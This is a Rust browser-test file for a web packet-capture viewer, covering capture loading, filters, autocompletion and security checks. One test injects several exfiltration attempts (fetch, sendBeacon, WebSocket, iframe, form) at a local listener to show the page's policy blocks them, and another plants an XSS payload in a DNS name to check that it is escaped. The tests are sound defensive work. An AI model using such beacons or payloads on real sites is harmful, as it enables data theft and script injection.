//! The page in a real browser: from the drop of a capture to the jump from a pair to its packets.
#![allow(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking")]

use std::fs;
use std::future::Future;
use std::io::Read;
use std::net::{Ipv4Addr, SocketAddrV4, TcpListener};
use std::path::PathBuf;
use std::time::Duration;

use anyhow::Result;
use tests::browser::{Page, with_page};
use tests::packet::{Tape, question, udp};
use tests::programs::skipped;
use xtask::captures;
use xtask::golden::{read_list, table};
use xtask::shell::root;

#[path = "page/pairs.rs"]
mod pairs;

fn page<F: Future<Output = Result<()>> + 'static>(test: fn(Page) -> F) {
    if skipped("page") {
        return;
    }
    with_page("/", test).unwrap();
}

fn capture(name: &str) -> PathBuf {
    captures::folder().join(name)
}

#[test]
fn a_chosen_capture_is_counted_and_listed_as_in_tshark() {
    page(|page| async move {
        page.open("").await?;
        page.find(r#"#status[data-state="empty"]"#).await?;
        let file = capture("http/quickstart.pcap");
        let golden = read_list(&captures::golden(&file, "list"))?;
        page.choose(&file).await?;
        let count = golden.len();
        page.find(&format!(r#"#status[data-state="ready"][data-packets="{count}"][data-displayed="{count}"]"#)).await?;
        page.show("packets").await?;
        for row in golden.iter().take(5) {
            let shown = page.text(&format!(r#"#packets [role=row][data-frame="{}"]"#, row[0])).await?;
            for cell in row {
                let words: Vec<&str> = cell.split_whitespace().collect();
                let shown: Vec<&str> = shown.split_whitespace().collect();
                assert!(shown.windows(words.len()).any(|part| part == words), "{cell:?} is not in {shown:?}");
            }
        }
        Ok(())
    });
}

#[test]
fn a_dropped_capture_is_read_whatever_its_name() {
    page(|page| async move {
        page.open("").await?;
        page.drop_file("notes.txt", &fs::read(capture("file/gzip.pcap.gz"))?).await?;
        page.find(r#"#status[data-state="ready"][data-packets="5"]"#).await?;
        // A second drop takes the place of the first.
        page.drop_file("more", &fs::read(capture("http/quickstart.pcap"))?).await?;
        page.find(r#"#status[data-state="ready"][data-packets="20"]"#).await.map(drop)
    });
}

#[test]
fn a_filter_displays_what_it_displays_in_tshark() {
    page(|page| async move {
        page.open("").await?;
        page.choose(&capture("dns/many_types.pcap")).await?;
        let rows = table(&root().join("tests/filters.tsv"))?;
        let of_this = rows.iter().filter(|row| row[0] == "dns/many_types.pcap");
        for row in of_this.filter(|row| row[2] != "refused").step_by(6) {
            let frames: Vec<&str> = row[2].split_whitespace().collect();
            page.filter(&row[1]).await?;
            page.find(&format!(r#"#status[data-state="ready"][data-displayed="{}"]"#, frames.len())).await?;
            page.find(r#"input#filter:not([aria-invalid="true"])"#).await?;
        }
        page.filter("").await?;
        page.find(r#"#status[data-state="ready"][data-displayed="38"]"#).await.map(drop)
    });
}

#[test]
fn a_wrong_filter_is_named_and_leaves_the_list() {
    page(|page| async move {
        page.open("").await?;
        page.choose(&capture("http/quickstart.pcap")).await?;
        page.filter("http.request").await?;
        page.find(r#"#status[data-displayed="1"]"#).await?;
        page.filter("http.request ==").await?;
        page.find(r#"input#filter[aria-invalid="true"]"#).await?;
        assert_ne!(page.text("#filter-message").await?.trim(), "");
        page.find(r#"#status[data-displayed="1"]"#).await.map(drop)
    });
}

#[test]
fn one_equals_sign_is_read_as_two_and_said() {
    page(|page| async move {
        page.open("").await?;
        page.choose(&capture("http/with_lookup.pcap")).await?;
        page.filter("udp.port = 53").await?;
        let golden = read_list(&captures::golden(&capture("http/with_lookup.pcap"), "list"))?;
        let dns = golden.iter().filter(|row| row[4] == "DNS").count();
        page.find(&format!(r#"#status[data-state="ready"][data-displayed="{dns}"]"#)).await?;
        assert!(page.text("#filter-message").await?.contains("=="));
        Ok(())
    });
}

#[test]
fn tree_and_bytes_show_each_other() {
    page(|page| async move {
        page.open("").await?;
        page.choose(&capture("http/quickstart.pcap")).await?;
        page.show("packets").await?;
        page.click(r#"#packets [role=row][data-frame="1"]"#).await?;
        page.find(r#"#packets [role=row][data-frame="1"][aria-selected="true"]"#).await?;
        // The IP header stands behind Ethernet's fourteen bytes, and is twenty long.
        page.click(r#"#tree [role=treeitem][data-field="ip"]"#).await?;
        page.find(r#"#tree [role=treeitem][data-field="ip"][aria-selected="true"]"#).await?;
        page.find(r#"#bytes [data-offset="14"].chosen"#).await?;
        page.find(r#"#bytes [data-offset="33"].chosen"#).await?;
        page.find(r#"#bytes [data-offset="34"]:not(.chosen)"#).await?;
        // The time to live is the header's ninth byte.
        page.click(r#"#bytes [data-offset="22"]"#).await?;
        page.find(r#"#tree [role=treeitem][data-field="ip.ttl"][aria-selected="true"]"#).await.map(drop)
    });
}

#[test]
fn a_file_that_is_no_capture_is_named() {
    page(|page| async move {
        page.open("").await?;
        page.drop_file("holiday.zip", b"PK\x03\x04\x14\x00\x00\x00\x08\x00and so on").await?;
        page.find(r#"#status[data-state="failed"]"#).await?;
        let words = page.run("return document.body.innerText").await?;
        assert!(words.as_str().unwrap_or_default().contains("ZIP"), "{words}");
        // The page is as good as new after it.
        page.choose(&capture("icmp/echo.pcap")).await?;
        page.find(r#"#status[data-state="ready"][data-packets="5"]"#).await.map(drop)
    });
}

#[test]
fn the_page_works_under_any_path_and_asks_only_for_itself() {
    if skipped("page") {
        return;
    }
    with_page("/some/deep/path/", |page| async move {
        page.open("?capture=sample/lab1.pcap").await?;
        page.find(r#"#status[data-state="ready"]:not([data-packets="0"])"#).await?;
        page.choose(&capture("http/quickstart.pcap")).await?;
        page.find(r#"#status[data-packets="20"]"#).await?;
        page.filter("http").await?;
        page.find(r#"#status[data-state="ready"][data-displayed="3"]"#).await?;
        let asked = page.asked();
        assert!(asked.len() > 4);
        for asked in asked.iter().filter(|asked| asked.url != "/favicon.ico") {
            assert_eq!((asked.method.as_str(), asked.status, asked.body), ("GET", 200, 0), "{asked:?}");
            assert!(asked.url.starts_with("/some/deep/path/"), "{asked:?}");
        }
        let resources = page.run("return performance.getEntriesByType('resource').map(entry => entry.name)").await?;
        for resource in resources.as_array().into_iter().flatten() {
            let name = resource.as_str().unwrap_or_default();
            assert!(name.starts_with(&page.address()) || name.starts_with("data:"), "{name}");
        }
        Ok(())
    })
    .unwrap();
}

#[test]
fn a_capture_of_another_site_is_refused() {
    page(|page| async move {
        let other = TcpListener::bind((Ipv4Addr::LOCALHOST, 0))?;
        other.set_nonblocking(true)?;
        let address = other.local_addr()?;
        for url in [format!("http://{address}/a.pcap"), format!("//{address}/a.pcap")] {
            page.open(&format!("?capture={url}")).await?;
            page.find(r#"#status[data-state="failed"]"#).await?;
        }
        assert!(other.accept().is_err(), "the page reached another site");
        Ok(())
    });
}

#[test]
fn no_byte_can_leave_the_page() {
    page(|page| async move {
        let other = TcpListener::bind((Ipv4Addr::LOCALHOST, 0))?;
        other.set_nonblocking(true)?;
        let address = other.local_addr()?;
        page.open("").await?;
        page.choose(&capture("http/quickstart.pcap")).await?;
        let tries = [
            format!("fetch('http://{address}/', {{method: 'POST', mode: 'no-cors', body: 'a'}}).catch(() => {{}})"),
            format!("navigator.sendBeacon('http://{address}/', 'a')"),
            format!("new Image().src = 'http://{address}/?a'"),
            format!("try {{ new WebSocket('ws://{address}/') }} catch {{}}"),
            format!("const f = document.createElement('iframe'); f.src = 'http://{address}/'; document.body.append(f)"),
            format!(
                "const s = document.createElement('script'); s.src = 'http://{address}/a.js'; document.body.append(s)"
            ),
            format!(
                "const form = document.createElement('form'); form.action = 'http://{address}/'; \
                 form.target = 'other'; document.body.append(form); form.submit()"
            ),
        ];
        for script in &tries {
            page.run(script).await?;
        }
        tokio::time::sleep(Duration::from_millis(500)).await;
        // Chromium opens a connection for a frame before it asks the policy; then nothing goes through it.
        while let Ok((mut connection, _)) = other.accept() {
            connection.set_read_timeout(Some(Duration::from_millis(500)))?;
            let mut first = [0];
            assert!(!matches!(connection.read(&mut first), Ok(1)), "the page sent something to another site");
        }
        let policy =
            page.run("return document.querySelector('meta[http-equiv=Content-Security-Policy]').content").await?;
        assert!(policy.as_str().unwrap_or_default().contains("default-src 'none'"), "{policy}");
        Ok(())
    });
}

#[test]
fn what_a_packet_says_is_text_and_never_markup() {
    page(|page| async move {
        let evil = "<img src=x onerror=document.title='evil'>.example";
        let mut tape = Tape::default();
        let client = SocketAddrV4::new(Ipv4Addr::new(10, 0, 2, 15), 50_000);
        tape.add(0, &udp(client, SocketAddrV4::new(Ipv4Addr::new(10, 0, 2, 3), 53), &question(1, evil)));
        page.open("").await?;
        page.drop_file("<b>evil</b>.pcap", tape.bytes()).await?;
        page.find(r#"#status[data-packets="1"]"#).await?;
        page.show("packets").await?;
        let row = page.text(r#"#packets [role=row][data-frame="1"]"#).await?;
        assert!(row.contains("<img src=x"), "{row}");
        page.click(r#"#packets [role=row][data-frame="1"]"#).await?;
        page.find(r#"#tree [role=treeitem][data-field="dns"]"#).await?;
        page.show("pairs").await?;
        tokio::time::sleep(Duration::from_millis(300)).await;
        let markup = "return [...document.querySelectorAll('img, b')].filter( \
                      made => made.tagName === 'IMG' || made.textContent === 'evil').length";
        assert_eq!(page.run(markup).await?, 0);
        assert_ne!(page.client.title().await?, "evil");
        Ok(())
    });
}

#[test]
fn a_filter_is_completed_by_keyboard_and_by_mouse() {
    page(|page| async move {
        page.open("").await?;
        page.choose(&capture("http/quickstart.pcap")).await?;
        let input = page.find("input#filter").await?;
        input.click().await?;
        // By keyboard: the field, its operator, and a value that the capture holds.
        input.send_keys("tcp.po").await?;
        page.find(r#"input#filter[aria-expanded="true"]"#).await?;
        page.find("#filter-choices [role=option]").await?;
        input.send_keys(DOWN).await?;
        page.find(r#"#filter-choices [aria-selected="true"]"#).await?;
        input.send_keys(ENTER).await?;
        assert_eq!(value(&page).await?, "tcp.port ");
        page.find("#filter-choices [role=option]").await?;
        input.send_keys("== ").await?;
        // By mouse: the port that most packets have.
        page.find("#filter-choices [role=option]").await?;
        page.wait_for_text("#filter-choices [role=option]", "80").await?;
        page.click("#filter-choices [role=option]").await?;
        assert_eq!(value(&page).await?, "tcp.port == 80");
        input.send_keys(ENTER).await?;
        page.find(r#"#status[data-state="ready"][data-displayed="20"]"#).await?;
        page.find(r#"input#filter[aria-expanded="false"]"#).await?;
        assert!(page.text("#filter-message").await?.contains("port 80"), "the filter is read aloud");
        // What was applied is offered again.
        page.filter("").await?;
        page.find("input#filter").await?.send_keys("tcp.port ==").await?;
        page.wait_for_text("#filter-choices", "applied before").await
    });
}

#[test]
fn escape_closes_the_choices_and_leaves_the_text() {
    page(|page| async move {
        page.open("").await?;
        page.choose(&capture("http/quickstart.pcap")).await?;
        let input = page.find("input#filter").await?;
        input.send_keys("http.req").await?;
        page.find("#filter-choices [role=option]").await?;
        input.send_keys(ESCAPE).await?;
        page.find(r#"input#filter[aria-expanded="false"]"#).await?;
        assert_eq!(value(&page).await?, "http.req");
        // Enter applies what is written, and takes no choice that nobody stands on.
        input.send_keys("uest").await?;
        page.find("#filter-choices [role=option]").await?;
        input.send_keys(ENTER).await?;
        page.find(r#"#status[data-state="ready"][data-displayed="1"]"#).await?;
        assert_eq!(value(&page).await?, "http.request");
        Ok(())
    });
}

#[test]
fn a_slip_is_mended_by_one_click() {
    page(|page| async move {
        page.open("").await?;
        page.choose(&capture("http/quickstart.pcap")).await?;
        page.filter("tcp port 80").await?;
        page.find(r#"input#filter[aria-invalid="true"]"#).await?;
        page.click(".say .fix").await?;
        page.find(r#"#status[data-state="ready"][data-displayed="20"]"#).await?;
        assert_eq!(value(&page).await?, "tcp.port == 80");
        Ok(())
    });
}

#[test]
fn a_filter_that_displays_nothing_says_why_and_what_would() {
    page(|page| async move {
        page.open("").await?;
        page.choose(&capture("tls/tls13.pcap")).await?;
        page.filter("tcp.port == 80").await?;
        page.wait_for_text("#nothing", "encrypted").await?;
        page.click("#nothing .fix").await?;
        page.find(r#"#status[data-state="ready"][data-displayed="6"]"#).await?;
        assert_eq!(value(&page).await?, "tcp.port == 443");
        page.filter("tls and tcp.port == 80").await?;
        page.wait_for_text("#nothing table", "tcp.port == 80").await
    });
}

#[test]
fn a_filter_can_take_values_from_the_selected_packet() {
    page(|page| async move {
        page.open("").await?;
        page.choose(&capture("http/quickstart.pcap")).await?;
        page.show("packets").await?;
        page.click(r#"#packets [role=row][data-frame="2"]"#).await?;
        page.find(r#"#packets [role=row][data-frame="2"][aria-selected="true"]"#).await?;
        page.filter("frame.number > ${frame.number}").await?;
        page.find(r#"#status[data-state="ready"][data-displayed="18"]"#).await.map(drop)
    });
}

#[test]
fn a_saved_filter_is_a_click_away_and_part_of_others() {
    page(|page| async move {
        page.open("").await?;
        page.choose(&capture("http/quickstart.pcap")).await?;
        page.filter("http.request").await?;
        page.find(r#"#status[data-state="ready"][data-displayed="1"]"#).await?;
        page.click("#saved-filters").await?;
        page.find("#saved-name").await?.send_keys(&format!("asked{ENTER}")).await?;
        page.filter("not ${asked}").await?;
        page.find(r#"#status[data-state="ready"][data-displayed="19"]"#).await?;
        page.click("#saved-filters").await?;
        page.click(".saved .entry").await?;
        page.find(r#"#status[data-state="ready"][data-displayed="1"]"#).await.map(drop)
    });
}

const ENTER: &str = "\u{e007}";
const ESCAPE: &str = "\u{e00c}";
const DOWN: &str = "\u{e015}";

async fn value(page: &Page) -> Result<String> {
    let script = "return document.querySelector('input#filter').value";
    Ok(page.client.execute(script, vec![]).await?.as_str().unwrap_or_default().to_owned())
}
